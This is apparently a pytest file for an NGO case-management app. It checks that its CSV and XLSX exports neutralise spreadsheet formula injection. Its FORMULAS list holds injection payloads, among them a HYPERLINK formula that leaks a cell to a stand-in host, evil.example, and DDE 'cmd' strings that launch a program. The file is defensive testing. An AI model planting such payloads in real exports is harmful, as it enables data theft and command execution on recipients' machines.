"""Every CSV Seri produces neutralises cells that a spreadsheet program would run as a
formula (issue #17, item 4). One test per export, each with a value that really reaches it."""

import csv
import io
import zipfile

import pytest

from seri.cases.models import Case
from seri.compounds.models import Compound
from seri.core import safecsv
from seri.intake.importers.spreadsheet import export_spreadsheet
from seri.intake.models import Report
from seri.stats import mse
from seri.stats.models import DPRelease, PrivacyBudget
from tests.conftest import login
from tests.factories import Role, UserFactory
from tests.stats.conftest import make_cases

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals sign
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
]


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_leading_text_gets_a_quote(value):
    out = io.StringIO()
    safecsv.writer(out).writerow(["fine", value, 42, -3, -0.5, None])
    assert cells(out.getvalue()) == ["fine", "'" + value, "42", "-3", "-0.5", ""]


def test_ordinary_text_is_unchanged():
    out = io.StringIO()
    safecsv.writer(out).writerows([["Anh trai tôi", "a=b", "email@example.org", "3-4"]])
    assert cells(out.getvalue()) == ["Anh trai tôi", "a=b", "email@example.org", "3-4"]


@pytest.fixture
def coordinator(ngo):
    return UserFactory(username="cora", membership=(ngo, Role.COORDINATOR))


@pytest.mark.django_db
def test_report_export_csv(ngo):
    """Accounts from the anonymous public form are exported to partners as typed."""
    for text in FORMULAS[:4]:
        Report.objects.create(organisation=ngo, original_text=text, language="en", channel="web")
    exported = export_spreadsheet(Report.objects.order_by("id"), fmt="csv").decode("utf-8")
    texts = [row[-1] for row in csv.reader(io.StringIO(exported))][1:]
    assert texts == ["'" + text for text in FORMULAS[:4]]


@pytest.mark.django_db
def test_chart_csv(ngo, coordinator):
    """Compound names are typed by staff, and some come from public reports."""
    make_cases(ngo, 30, seed=11)
    evil = Compound.objects.create(name=FORMULAS[0], province="Preah Sihanouk")
    Case.objects.filter(organisation=ngo).update(compound=evil)
    response = login(coordinator).get("/stats/chart/compound.csv")
    assert response.status_code == 200
    body = response.content.decode("utf-8")
    assert "'" + FORMULAS[0] in cells(body)
    assert FORMULAS[0] not in cells(body)


@pytest.mark.django_db
def test_htcds_export_csv(ngo, coordinator):
    """A value that reached the database without the form's checks (an old import, a direct
    edit) is still neutralised on the way out, in every CSV of the export's zip."""
    make_cases(ngo, 40, seed=12)
    # a case's status holds 20 characters (PostgreSQL enforces it)
    formula = "@SUM(1+1)*cmd|A0"
    Case.objects.filter(organisation=ngo).update(status=formula)
    response = login(coordinator).post("/stats/export/", {"format": "csv", "k": "2"})
    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    written = [
        cell
        for name in archive.namelist()
        for cell in cells(archive.read(name).decode("utf-8-sig"))
    ]
    assert "'" + formula in written
    assert formula not in written


@pytest.mark.django_db
def test_private_release_csv(ngo, coordinator):
    budget = PrivacyBudget.objects.create(dataset="demo", total_epsilon=1.0)
    release = DPRelease.objects.create(
        budget=budget,
        table="province",
        epsilon=0.1,
        mechanism="laplace",
        scale=10.0,
        categories=[FORMULAS[1], "Phnom Penh"],
        noisy_counts=[-4, 12],
        released_by=coordinator,
    )
    response = login(coordinator).get(f"/stats/releases/{release.public_id}.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8"))))
    assert rows[1] == ["'" + FORMULAS[1], "-4"]  # a negative count stays a number
    assert rows[2] == ["Phnom Penh", "12"]


def test_capture_histories_csv():
    """List names are organisation short names an administrator types."""
    histories = mse.CaptureHistories.from_membership(
        [FORMULAS[2], "NGO B"], [{FORMULAS[2]}, {FORMULAS[2], "NGO B"}, {"NGO B"}]
    )
    header = next(csv.reader(io.StringIO(histories.to_csv())))
    assert header == ["'" + FORMULAS[2], "NGO B", "count"]


def test_htcds_export_xlsx_keeps_formulas_as_text(ngo, coordinator):
    """openpyxl would store a text starting with "=" as a formula: the XLSX export writes every
    text cell as a string."""
    from openpyxl import load_workbook

    make_cases(ngo, 40, seed=12)
    formula = '=HYPERLINK("x")'  # a case's status holds 20 characters
    Case.objects.filter(organisation=ngo).update(status=formula)
    response = login(coordinator).post("/stats/export/", {"format": "xlsx", "k": "2"})
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    typed = [
        (cell.value, cell.data_type) for sheet in book for row in sheet.iter_rows() for cell in row
    ]
    assert (formula, "s") in typed
    assert not [value for value, kind in typed if kind == "f"]
